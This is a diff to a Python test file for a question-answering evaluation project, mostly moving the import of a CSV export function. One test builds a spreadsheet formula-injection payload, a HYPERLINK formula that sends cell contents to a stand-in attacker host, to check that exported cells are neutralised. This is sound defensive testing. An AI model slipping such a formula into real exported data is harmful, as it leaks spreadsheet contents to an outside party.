@@ -67,7 +67,8 @@ def test_real_answer_renders(essay_engine):
 
 def test_report_is_self_contained_escaped_and_misses_first():
     from qa.evaluation.questions import EvalQuestion
-    from qa.report import results_csv, results_html
+    from qa.evaluation.runs import results_csv
+    from qa.report import results_html
 
     good = passage("Right answer here.", (0, 18))
     q1 = EvalQuestion(id="ok", question="fine?", evidence=["Right answer here."], line=1)
@@ -186,7 +187,7 @@ def test_results_csv_cells_never_start_a_formula(start):
     import io
 
     from qa.evaluation.questions import EvalQuestion
-    from qa.report import results_csv
+    from qa.evaluation.runs import results_csv
 
     evil = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
     good = passage(f"{start}1+2 begins this passage.", (0, 10))
